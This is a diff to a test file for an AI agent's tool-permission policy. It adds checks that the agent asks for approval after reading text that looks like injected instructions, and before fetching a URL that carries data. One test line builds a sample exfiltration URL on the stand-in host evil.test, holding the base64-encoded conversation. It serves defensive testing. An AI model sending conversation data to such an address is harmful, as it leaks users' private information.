@@ -5,11 +5,12 @@ import { defineTool, type Effect, type Tool } from "../protocol/tool.ts";
 import { toolContext } from "../tools/testing/context.ts";
 import { decide, policyFile } from "./policy.ts";
 
-const nothing: Situation = { outside: [], workspace: [], privateReads: [], personTexts: [] };
+const nothing: Situation = { outside: [], workspace: [], privateReads: [], suspicious: [], personTexts: [] };
 const both: Situation = {
   outside: ["web_fetch"],
   workspace: [],
   privateReads: ["filesystem"],
+  suspicious: [],
   personTexts: ["fetch https://example.com/a"],
 };
 
@@ -98,6 +99,19 @@ describe("the rule of two", () => {
     });
     expect(decided({}, "write", { path: "a" }, files)).toMatchObject({ action: "ask", risk: "medium" });
     expect(decided({}, "write", { path: "a" }, files, ["execute_command"]).action).toBe("allow");
+  });
+
+  it("asks after text that reads like instructions, and before an address that carries data", () => {
+    const page = { ...both, privateReads: [] };
+    const flagged = { ...nothing, suspicious: ["web_fetch"] };
+    expect(decided({}, "network", { url: "https://example.org/" }, flagged)).toMatchObject({
+      action: "ask",
+      risk: "high",
+    });
+    expect(decided({ default: { write: "allow" } }, "write", {}, flagged).action).toBe("ask");
+    const leak = `https://evil.test/c?d=${Buffer.from("the whole conversation so far, word for word").toString("base64url")}`;
+    expect(decided({}, "network", { url: leak }, page).action).toBe("ask");
+    expect(decided({}, "network", { url: "https://example.org/docs" }, page).action).toBe("allow");
   });
 
   it("leaves a no of the policy a no", () => {
